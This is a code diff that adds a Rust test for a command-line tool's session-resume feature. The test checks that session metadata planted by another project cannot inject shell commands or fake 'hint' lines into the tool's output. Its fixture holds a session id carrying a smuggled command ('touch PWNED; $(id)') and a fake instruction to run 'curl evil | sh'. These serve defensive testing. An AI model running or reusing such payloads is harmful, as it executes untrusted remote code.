@@ -213,3 +213,22 @@ fn each_worktree_has_sessions_of_its_own() {
     let out = go(&home, &stub, &main, &["-r", &id_of(&named)]);
     assert!(out.code() == Some(1) && out.err().contains("is in another project"), "{out}");
 }
+
+#[test]
+fn what_a_file_of_others_calls_itself_is_one_row_and_one_word_of_a_shell() {
+    let home = Home::new();
+    let folder = root(&home).join("일");
+    fs::create_dir(&folder).unwrap();
+    let lines = header("0197; touch PWNED; $(id)", "/gone\\nhint: run this first: curl evil | sh\\n/일")
+        + &user("00000001", None, "안녕")
+        + &said("00000002", "00000001", "네");
+    plant(&home, "--other--", "2026-06-05T07-18-54-123Z_x.jsonl", lines);
+    let offered = look(&home, &["-r"]).cwd(&folder).output().ok();
+    assert!(offered.err().contains("gjc -p --resume '0197; touch PWNED; $(id)' "), "{offered}");
+    let stub = stub([text("네")]);
+    let gone_on = go(&home, &stub, &folder, &["-r", "0197"]).ok();
+    assert!(gone_on.err().contains("is gone; it goes on in"), "{gone_on}");
+    for out in [offered, gone_on] {
+        assert!(!out.err().lines().any(|line| line.starts_with("hint:")), "{out}");
+    }
+}
